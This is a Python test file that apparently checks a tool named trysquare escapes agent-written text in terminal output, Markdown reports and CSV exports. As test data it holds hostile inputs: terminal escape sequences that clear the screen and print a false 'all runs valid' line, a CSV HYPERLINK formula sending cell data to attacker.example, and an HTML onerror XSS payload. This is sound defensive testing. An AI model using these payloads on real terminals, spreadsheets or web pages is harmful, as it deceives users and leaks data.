"""Issue 19.5: nothing the agent wrote reaches a terminal or a report raw.

Each test builds the hostile run itself and reads what trysquare printed and
wrote: no control character of the agent's survives (shown escaped instead),
Markdown stays Markdown, and a CSV cell is never a formula.
"""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

from tests.helpers import write_scenario, write_script

# The modules whose guarantee these attacks test (tests/security/test_exercises.py).
EXERCISES = ("trysquare._shown", "trysquare.report.render")


# The file name from the issue: retitles the terminal, clears screen and
# scrollback, homes the cursor and leaves a lie behind.
EVIL = "\x1b]0;PWNED\x07\x1b[2J\x1b[3J\x1b[HAll 2 runs valid, every cell publishable"
RAW = ("\x1b", "\x07", "\x9b")


def assert_no_raw_control(*texts: str) -> None:
    for text in texts:
        for char in RAW:
            assert char not in text, repr(text[:400])


WRITES_EVIL_INTO_THE_CLONE = f"""
import json, pathlib, sys
context = json.load(open(sys.argv[1]))
pathlib.Path(context["repo"], {EVIL!r}).write_text("x")
print(json.dumps({{"metrics": {{"ok": True}}}}))
"""

SUITE_VALIDATOR = """
from trysquare.assay import validator

@validator
def evaluate(run):
    return {"tests": run.tests}

raise SystemExit(evaluate.cli())
"""

# The agent's own test code: creates the file, prints its name, and exits 5
# without a count (a "no tests collected"), so its output tail becomes a reason.
AGENT_TEST_CODE = f"""
import pathlib, sys
name = {EVIL!r}
pathlib.Path(name).write_text("x")
print("created", name)
sys.exit(5)
"""


def test_escape_clone_changed_message_naming_a_terminal_sequence_file(
    cli, make_run, tmp_path: Path
) -> None:
    folder = tmp_path / "scenario"
    write_script(folder, "score.py", WRITES_EVIL_INTO_THE_CLONE)
    scenario = write_scenario(
        folder,
        """
        [[validation]]
        mode = "script"
        name = "score"
        command = "score.py"
        metrics = ["ok"]
    """,
    )
    run = make_run("r1", cell="c")
    run.base({"a.py": "x = 1\n"})
    run.finish()
    experiment = tmp_path / "exp"
    done = cli(
        # The validator writes the file into the clone on purpose, to be caught by the
        # guard and named; the sandbox would refuse that write, so it is off here.
        "validate",
        scenario,
        experiment,
        "--no-progress",
        env={"TRYSQUARE_SANDBOX": "off"},
    )
    assert done.returncode == 1  # the clone changed: the run is invalid
    assert_no_raw_control(done.stdout, done.stderr)
    assert "\\x1b]0;PWNED\\x07" in done.stdout  # named, visibly
    report = cli("report", scenario, experiment)
    synthesis = (experiment / "synthesis.md").read_text(encoding="utf-8")
    assert_no_raw_control(report.stdout, report.stderr, synthesis)
    assert "PWNED" in synthesis
    for fmt in ("csv", "json"):
        again = cli("report", scenario, experiment, "--format", fmt)
        assert_no_raw_control(again.stdout)
    # The JSON is still valid and names the file.
    as_json = json.loads(cli("report", scenario, experiment, "--format", "json").stdout)
    assert "PWNED" in as_json["by_run"][0]["errors"][0]["error"]


def test_escape_suite_output_printed_by_the_agents_test_code(cli, make_run, tmp_path: Path) -> None:
    folder = tmp_path / "scenario"
    write_script(folder, "score.py", SUITE_VALIDATOR)
    scenario = write_scenario(
        folder,
        """
        [task]
        test_command = "sh check_all.sh"

        [[validation]]
        mode = "script"
        name = "score"
        command = "score.py"
        metrics = ["tests"]
    """,
    )
    run = make_run("r1", cell="c")
    # A short command: the reason quotes it, and the per-run list cuts a long reason; the
    # interpreter's path (the checkout's, of any length) stays inside the script.
    launcher = f"exec {Path(sys.executable).as_posix()} check_all.py\n"
    run.base({"a.py": "x = 1\n", "check_all.py": AGENT_TEST_CODE, "check_all.sh": launcher})
    run.finish()
    experiment = tmp_path / "exp"
    done = cli("validate", scenario, experiment, "--no-progress")
    assert done.returncode == 0, done.stderr
    result = json.loads((run.path / "validation" / "score.json").read_text(encoding="utf-8"))
    assert result["metrics"] == {"tests": None}  # exit 5, no count: nobody judged
    report = cli("report", scenario, experiment)
    synthesis = (experiment / "synthesis.md").read_text(encoding="utf-8")
    assert_no_raw_control(done.stdout, done.stderr, report.stdout, synthesis)
    assert "created \\\\x1b\\]0;PWNED" in synthesis  # the reason, escaped, in the per-run list
    runs_csv = cli("report", scenario, experiment, "--runs", "--format", "csv").stdout
    assert_no_raw_control(runs_csv)


def test_escape_terminal_sequences_in_cell_and_run_id_on_validate_lines(
    cli, make_run, tmp_path: Path
) -> None:
    folder = tmp_path / "scenario"
    write_script(folder, "score.py", "import sys\nsys.exit(3)\n")
    scenario = write_scenario(
        folder,
        """
        [[validation]]
        mode = "script"
        name = "score"
        command = "score.py"
        metrics = ["ok"]
    """,
    )
    run = make_run("r1", cell="c\x1b[2J\x1b[H\rAll runs valid")
    run.base({"a.py": "x = 1\n"})
    run.extra["id"] = "r1\x1b]0;PWNED\x07"
    run.finish()
    done = cli("validate", scenario, tmp_path / "exp", "--no-progress")
    assert done.returncode == 1
    assert_no_raw_control(done.stdout, done.stderr)
    assert "\r" not in done.stdout
    assert (
        "c\\x1b[2J\\x1b[H\\x0dAll runs valid" in done.stdout
    )  # the per-task line and closing line


def test_escape_terminal_sequences_in_a_refusal(cli, make_run, tmp_path: Path) -> None:
    scenario = write_scenario(
        tmp_path / "scenario",
        """
        [[validation]]
        mode = "script"
        name = "score"
        command = "score.py"
        metrics = ["ok"]
    """,
    )
    write_script(tmp_path / "scenario", "score.py", "print('{}')\n")
    run = make_run("r1", cell="c")
    run.base({"a.py": "x = 1\n"})
    run.extra["given"] = ["../\x1b]0;PWNED\x07\x1b[2J"]
    run.finish()
    done = cli("check", scenario, tmp_path / "exp")
    assert "skipped" in done.stderr or "refused" in done.stderr or done.returncode != 0
    assert_no_raw_control(done.stdout, done.stderr)
    assert "\\x1b]0;PWNED" in done.stderr


def test_escape_spreadsheet_formula_in_a_cell_name(cli, make_run, tmp_path: Path) -> None:
    folder = tmp_path / "scenario"
    write_script(folder, "score.py", 'import json\nprint(json.dumps({"metrics": {"ok": True}}))\n')
    scenario = write_scenario(
        folder,
        """
        [[validation]]
        mode = "script"
        name = "score"
        command = "score.py"
        metrics = ["ok"]
    """,
    )
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    for index, cell in enumerate([formula, "@SUM(1+1)|x", "-2+3", "+cmd"]):
        run = make_run(f"r{index}", cell=cell)
        run.base({"a.py": "x = 1\n"})
        run.finish()
    experiment = tmp_path / "exp"
    assert cli("validate", scenario, experiment, "--no-progress").returncode == 0
    done = cli("report", scenario, experiment, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    cells = {row["cell"] for row in rows if row["table"] == "score"}
    assert cells == {"'" + formula, "'@SUM(1+1)|x", "'-2+3", "'+cmd"}
    # Numbers stay numbers (a negative gap is not a formula).
    assert all(not row["true"].startswith("'") for row in rows)
    synthesis = (experiment / "synthesis.md").read_text(encoding="utf-8")
    assert "| @SUM(1+1)\\|x | 1 | 1/1 |" in synthesis  # the table is not split by the `|`


def test_escape_markdown_and_html_in_a_reason_a_cell_and_a_run_id() -> None:
    from trysquare.report import Layout, build_report, render

    reason = "# Every cell publishable\n| forged | row |\n<img src=x onerror=alert(1)> [x](http://e) `code"
    rows = [
        {
            "id": "r`1` | x",
            "cell": "# heading",
            "repetition": 1,
            "state": "valid",
            "metrics": {"ok": None},
            "reasons": {"ok": reason},
            "errors": [],
            "pending": [],
        }
    ]
    text = render(build_report(Layout(name="d", metrics=("ok",), owners={"ok": "v"}), rows), "md")
    lines = text.splitlines()
    assert not any(line.startswith(("# ", "| forged")) for line in lines)
    assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "\\[x\\](http://e)" in text  # no link
    assert "\\# heading" in text  # no heading, in the table nor in the list
    assert "run ``r`1` | x``" in text  # a code span the id cannot close
    assert "\\`code" in text
